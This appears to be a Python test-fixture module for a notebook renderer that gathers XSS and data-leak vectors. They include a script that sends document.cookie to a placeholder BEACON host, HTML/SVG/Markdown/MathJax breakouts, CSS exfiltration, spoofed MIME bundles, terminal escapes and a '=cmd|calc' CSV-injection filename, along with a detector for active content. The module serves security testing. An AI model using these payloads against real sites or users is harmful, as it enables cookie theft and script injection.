# ruff: noqa: E501 - vectors are read as one line each
"""Outputs that try to run a script, to fetch something, or to break out of where they are shown (THREATS: group O).

In each, BEACON is replaced by the address of a listener that should never hear anything, and SCRIPT by a script that
would be noticed. Sources: the nbconvert cases of GitHub Security Lab (GHSL-2021-1013 to 1028), CVE-2018-8768,
CVE-2021-32797, CVE-2024-22420 and -22421, and what browsers fetch without being asked.
"""

from __future__ import annotations

import base64
import json
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

# No quotation marks and no spaces, so that it fits everywhere.
SCRIPT = "(function(w){w.__owned=1;fetch(`BEACON/js?`+document.cookie);alert(1)})(window.top)"

HTML = {
    "script": "<script>SCRIPT</script>",
    "script-src": '<script src="BEACON/a.js"></script>',
    "script-case": "<ScRiPt >SCRIPT</sCrIpT\t>",
    "script-in-comment": "<!--><script>SCRIPT</script>-->",
    "script-in-cdata": "<svg><![CDATA[><script>SCRIPT</script>]]></svg>",
    "script-after-null": "<scr\0ipt>SCRIPT</scr\0ipt><img src=x on\0error=SCRIPT>",
    "img-onerror": '<img src=x onerror="SCRIPT">',
    "img-src": '<img src="BEACON/img">',
    "img-srcset": '<img srcset="BEACON/srcset 1x">',
    "picture": '<picture><source srcset="BEACON/source"><img src="data:,"></picture>',
    "input-image": '<input type="image" src="BEACON/input">',
    "body-onload": '<body onload="SCRIPT" background="BEACON/background">hello</body>',
    "table-background": '<table background="BEACON/table"><tr><td background="BEACON/td">x</table>',
    "svg-onload": '<svg onload="SCRIPT"></svg>',
    "svg-script": "<svg><script>SCRIPT</script></svg>",
    "svg-image": '<svg><image href="BEACON/svg"/><image xlink:href="BEACON/xlink"/><use href="BEACON/use#a"/></svg>',
    "svg-animate": '<svg><a id=q><animate attributeName=href values="javascript:SCRIPT"/><text y=20>x</text></a></svg>',
    "svg-set": '<svg><image href="#"><set attributeName="href" to="BEACON/set"/></image></svg>',
    "svg-feimage": '<svg><filter id=f><feImage href="BEACON/feimage"/></filter><rect filter="url(#f)" width=9 height=9/></svg>',
    "svg-fill": '<svg><rect fill="url(BEACON/fill#a)" width=9 height=9 /></svg>',
    "svg-foreign": '<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="BEACON/fo"/></foreignObject></svg>',
    "math": '<math href="javascript:SCRIPT"><mtext>x</mtext></math>',
    "math-mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=SCRIPT&gt;">',
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=SCRIPT>"></noscript>',
    "style-breakout": '<style><a title="</style><img src=x onerror=SCRIPT>"></style>',
    "textarea-breakout": '<textarea><p title="</textarea><img src=x onerror=SCRIPT>"></textarea>',
    "title-breakout": '<title><p title="</title><img src=x onerror=SCRIPT>"></title>',
    "plaintext": "<plaintext><img src=x onerror=SCRIPT>",
    "xmp": "<xmp></xmp><img src=x onerror=SCRIPT>",
    "attribute-breakout": '"></iframe><img src=x onerror="SCRIPT"><iframe srcdoc="',
    "entity-breakout": "&quot;&gt;&lt;/iframe&gt;&lt;img src=x onerror=SCRIPT&gt;",
    "template": "<template shadowrootmode=open><img src=x onerror=SCRIPT></template>",
    "shadow": "<div><template shadowrootmode=open><img src='BEACON/shadow'></template></div>",
    "iframe-src": '<iframe src="BEACON/iframe"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>SCRIPT</script>"></iframe>',
    "iframe-javascript": '<iframe src="javascript:SCRIPT"></iframe>',
    "iframe-data": '<iframe src="data:text/html,<script>SCRIPT</script>"></iframe>',
    "object": '<object data="BEACON/object"></object><embed src="BEACON/embed">',
    "object-javascript": '<object data="javascript:SCRIPT"></object><embed src="javascript:SCRIPT">',
    "frameset": '<frameset onload="SCRIPT"><frame src="BEACON/frame"></frameset>',
    "form": '<form action="javascript:SCRIPT"><input autofocus onfocus="SCRIPT"><button>send</button></form>',
    "form-outside": '<form id=f action="BEACON/form"></form><button form=f formaction="javascript:SCRIPT">b</button>',
    "link-javascript": '<a href="javascript:SCRIPT" id=link>click</a><a href="java\nscript:SCRIPT">b</a>',
    "link-data": '<a href="data:text/html,<script>SCRIPT</script>" target="_top">click</a>',
    "link-ping": '<a href="#" ping="BEACON/ping" autofocus>click</a>',
    "base": '<base href="BEACON/"><img src="base.png"><a href="x">y</a>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=BEACON/refresh">',
    "meta-javascript": '<meta http-equiv="refresh" content="0;url=javascript:SCRIPT">',
    "meta-csp": '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri BEACON/csp"><img src=x>',
    "link-stylesheet": '<link rel="stylesheet" href="BEACON/css">',
    "link-ahead": '<link rel="preconnect" href="BEACON/"><link rel="prefetch" href="BEACON/pre">'
    '<link rel="dns-prefetch" href="BEACON/"><link rel="preload" as="image" href="BEACON/load">'
    '<link rel="modulepreload" href="BEACON/module"><link rel="prerender" href="BEACON/render">',
    "link-icon": '<link rel="icon" href="BEACON/icon"><link rel="manifest" href="BEACON/manifest">',
    "style-import": "<style>@import 'BEACON/import';</style>",
    "style-import-escaped": "<style>@\\69mport 'BEACON/import2';</style>",
    "style-url": '<div style="background:url(BEACON/url);list-style:url(BEACON/list);cursor:url(BEACON/c),auto">x</div>',
    "style-escaped": '<div style="background:u\\72l(BEACON/escaped)">x</div>',
    "style-image-set": "<style>p{background-image:image-set('BEACON/set' 1x)}</style><p>x</p>",
    "style-exfiltration": "<style>input[value^='a']{background:url(BEACON/exfil)}</style><input value='abc'>",
    "style-font": "<style>@font-face{font-family:z;src:url(BEACON/font)}p{font-family:z}</style><p>x</p>",
    "style-page": "<style>body{display:none!important} .jp-Cell{visibility:hidden!important}</style>",
    "style-overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">Please sign in</div>',
    "video": '<video src="BEACON/video" poster="BEACON/poster" autoplay onerror="SCRIPT"></video>',
    "audio": '<audio autoplay><source src="BEACON/audio" onerror="SCRIPT"><track src="BEACON/track"></audio>',
    "details": '<details open ontoggle="SCRIPT"><summary>x</summary></details>',
    "marquee": '<marquee onstart="SCRIPT">x</marquee>',
    "animation": "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationend=SCRIPT>x</p>",
    "popover": "<button popovertarget=z>b</button><p id=z popover onbeforetoggle=SCRIPT>z</p>",
    "clobber": '<form id="jupyterapp"><input name="cookie"></form><img name="getElementById">',
    "require": "<img src=x data-commandlinker-command='notebook:run-all-cells' onclick=SCRIPT>",
    "pandas": '<table border="1" class="dataframe"><thead><tr style="text-align: right;"><th></th>'
    "<th>&lt;img src=x onerror=SCRIPT&gt;</th><th>$\\href{javascript:SCRIPT}{x}$</th></tr></thead><tbody><tr><th>0</th>"
    '<td><img src="BEACON/cell" onerror="SCRIPT"></td><td><a href="javascript:SCRIPT">a</a></td></tr></tbody></table>',
    "many-open": "<div>" * 20_000 + "<img src=x onerror=SCRIPT>",
}

MARKDOWN = {
    "raw": "# Title\n\n<img src=x onerror=\"SCRIPT\">\n\n<script>SCRIPT</script>\n\n<iframe src='BEACON/md'></iframe>",
    "link": "[a](javascript:SCRIPT) [b](data:text/html;base64,PHNjcmlwdD4=) [c](JaVaScRiPt:SCRIPT) <javascript:SCRIPT>",
    "link-entity": "[x](&#106;avascript:SCRIPT) [y]( javascript:SCRIPT) [z][r]\n\n[r]: javascript:SCRIPT",
    "image": '![a](BEACON/md.png) ![b](BEACON/md2.png "t" onerror=SCRIPT) ![c][r]\n\n[r]: BEACON/md3.png',
    "attribute": '[x](http://a.example/"onmouseover="SCRIPT) ![x](x"onerror="SCRIPT)',
    "math": "$\\href{javascript:SCRIPT}{x}$ $$\\style{background:url(BEACON/tex)}{x}$$ $\\unicode[BEACON]{x41}$ $\\class{x}{y}$",
    "require": "$\\require{html}\\href{javascript:SCRIPT}{x}$ $\\includegraphics{BEACON/tex.png}$",
    "table": "| a | b |\n|---|---|\n" + "| <img src=x onerror=SCRIPT> | [x](javascript:SCRIPT) |\n" * 2_000,
}

_PICTURE = base64.b64encode(b"<script>alert(1)</script>").decode()

BUNDLES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    "javascript": ({"application/javascript": "SCRIPT", "text/plain": "<Javascript>"}, {}),
    "svg": (
        {"image/svg+xml": '<svg xmlns="http://www.w3.org/2000/svg" onload="SCRIPT"><script>SCRIPT</script></svg>'},
        {},
    ),
    "svg-entity": (
        {
            "image/svg+xml": '<!DOCTYPE svg [<!ENTITY x SYSTEM "BEACON/dtd">]><?xml-stylesheet href="BEACON/xsl"?><svg>&x;</svg>'
        },
        {},
    ),
    "png-that-is-html": ({"image/png": _PICTURE, "text/plain": "a picture"}, {}),
    "png-breakout": ({"image/png": 'x"><img src=x onerror="SCRIPT">', "text/plain": "p"}, {}),
    "png-metadata": (
        {
            "image/png": "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
        },
        {
            "image/png": {
                "width": '1" onload="SCRIPT',
                "height": "1><script>SCRIPT</script>",
                "alt": '"><img src=x onerror=SCRIPT>',
                "unconfined": '" onerror="SCRIPT',
            },
            "filenames": {"image/png": '"><script>SCRIPT</script>'},
        },
    ),
    "jpeg-breakout": ({"image/jpeg": '"><script>SCRIPT</script>', "text/plain": "p"}, {}),
    "latex": ({"text/latex": "$\\href{javascript:SCRIPT}{x}$<img src=x onerror=SCRIPT>", "text/plain": "l"}, {}),
    "json": ({"application/json": {"<img src=x onerror=SCRIPT>": ["<script>SCRIPT</script>"]}, "text/plain": "j"}, {}),
    "vega": (
        {"application/vnd.vegalite.v5+json": {"data": {"url": "BEACON/vega.csv"}, "mark": "point"}, "text/plain": "v"},
        {},
    ),
    "vega-image": (
        {
            "application/vnd.vega.v5+json": {
                "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "BEACON/v"}}}}]
            }
        },
        {},
    ),
    "plotly": (
        {
            "application/vnd.plotly.v1+json": {"data": [], "layout": {"images": [{"source": "BEACON/plotly"}]}},
            "text/html": "<script>SCRIPT</script>",
        },
        {},
    ),
    "widget-view": (
        {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2, "version_minor": 0}},
        {},
    ),
    "widget-state": (
        {"application/vnd.jupyter.widget-state+json": {"state": {"x": {"model_name": "</script><script>SCRIPT"}}}},
        {},
    ),
    "geojson": ({"application/geo+json": {"type": "Point", "coordinates": [0, 0]}, "text/plain": "g"}, {}),
    "vdom": ({"application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "x", "onerror": "SCRIPT"}}}, {}),
    "pdf": ({"application/pdf": _PICTURE, "text/plain": "pdf"}, {}),
    "unknown": ({"application/x-<img src=x onerror=SCRIPT>": "<script>SCRIPT</script>"}, {}),
    "html-is-no-text": ({"text/html": {"a": "<script>SCRIPT</script>"}, "text/plain": "p"}, {}),
    "html-is-a-number": ({"text/html": 7, "image/png": 8, "text/plain": None}, {}),
    "report": (
        {
            "application/vnd.codalab.report+json": {
                "figure": "volcano",
                "title": "<script>SCRIPT</script>",
                "alt": '"><img src=x onerror=SCRIPT>',
                "files": [],
            },
            "text/plain": "<img src=x onerror=SCRIPT>",
        },
        {},
    ),
}

SOURCES = {
    "stream": "print('<img src=x onerror=\"SCRIPT\"> $\\\\href{javascript:SCRIPT}{x}$ </pre><script>SCRIPT</script>')",
    "terminal": "print('\\x1b]0;owned\\x07\\x1b]8;;javascript:SCRIPT\\x1b\\\\click\\x1b]8;;\\x1b\\\\ \\x1b[31mred\\x1b[0m \\u202etxt.exe')",
    "spinner": "for i in range(100_000):\n    print('\\r', i, end='')",
    "one-line": "print('x' * 3_000_000)",
    "bytes": "import os\nos.write(1, b'\\xff\\xfe<script>SCRIPT</script>\\n')",
    "comm-flood": "from ipykernel.comm import Comm\n"
    "for i in range(300):\n    Comm(target_name='jupyter.widget', data={'state': {'_model_name': '<script>SCRIPT</script>'}})",
    "metric": "from codalab_nb import report\nreport.metric('quality', 0.5)",
    "files": "from pathlib import Path\n"
    "for name in ('<img src=x onerror=alert(1)>.png', '\"><script>alert(1)<script>.csv', '=cmd|calc.csv', "
    "'\\x1b]8;;evil\\x07.csv', 'gpj.\\u202eexe.csv', '$x$.csv', '<b>bold.csv'):\n    Path(name).write_text('a,b\\n1,2\\n')",
    "error": "class Evil(Exception):\n    pass\n"
    "Evil.__name__ = Evil.__qualname__ = '<img src=x onerror=SCRIPT>'\n"
    "raise Evil('the last of them <script>SCRIPT</script> \\x1b]8;;javascript:SCRIPT\\x07x')",
}
LAST_WORDS = "the last of them"  # what one reads when all of them ran

# Lists what must not stand in the page itself, outside of the sandboxed frames.
ACTIVE = """area => {
    const found = [];
    for (const element of area.querySelectorAll('*')) {
        const name = element.localName;
        if (['script', 'object', 'embed', 'link', 'meta', 'base', 'form', 'video', 'audio', 'template'].includes(name))
            found.push(name);
        if (name === 'iframe' && element.getAttribute('sandbox') !== '') found.push('iframe without a sandbox');
        for (const {name: attribute, value} of element.attributes) {
            if (attribute.startsWith('on')) found.push(name + ' ' + attribute);
            const told = name + ' ' + attribute + '=' + value.slice(0, 40);
            if (/^\\s*(javascript|data:text)/i.test(value)) found.push(told);
            if (['src', 'srcset', 'poster', 'background'].includes(attribute) && !value.startsWith('data:image/'))
                found.push(told);
        }
    }
    return found;
}"""


def cells(beacon: str) -> dict[str, str]:
    """One code cell for each case, in the order in which a notebook should run them."""
    armed = _Armed(beacon)
    found: dict[str, str] = {}
    for name, html in HTML.items():
        found[f"html-{name}"] = _display({"text/html": armed(html), "text/plain": name}, {})
    for name, markdown in MARKDOWN.items():
        found[f"markdown-{name}"] = _display({"text/markdown": armed(markdown), "text/plain": name}, {})
    for name, (data, metadata) in BUNDLES.items():
        found[name] = _display(armed(data), armed(metadata))
    for name, source in SOURCES.items():
        found[name] = armed(source)
    return found


def _display(data: dict[str, Any], metadata: dict[str, Any]) -> str:
    told = json.dumps([data, metadata])
    # Published as a hostile kernel would: `display` checks some of it.
    return (
        "import json\nfrom IPython import get_ipython\n"
        f"data, metadata = json.loads({told!r})\n"
        "get_ipython().display_pub.publish(data, metadata)"
    )


class _Armed:
    """Puts script and address into text, or into all the texts of a value."""

    def __init__(self, beacon: str) -> None:
        self._beacon = beacon

    def __call__(self, value: Any) -> Any:
        if isinstance(value, str):
            return value.replace("SCRIPT", SCRIPT).replace("BEACON", self._beacon)
        if isinstance(value, dict):
            return {self(name): self(inner) for name, inner in value.items()}
        return [self(inner) for inner in value] if isinstance(value, list) else value


class Beacon:
    """A listener on this machine. `heard` has a line for each connection, even one that says nothing."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._socket.getsockname()[1]}"

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.heard.append(connection.recv(200).decode(errors="replace").partition("\r")[0] or "(nothing)")
                except OSError:
                    self.heard.append("(nothing)")

    @contextmanager
    def listening(self) -> Iterator[Beacon]:
        listener = threading.Thread(target=self._listen, daemon=True)
        listener.start()
        yield self
        self._socket.shutdown(socket.SHUT_RDWR)
        self._socket.close()
        listener.join(5)
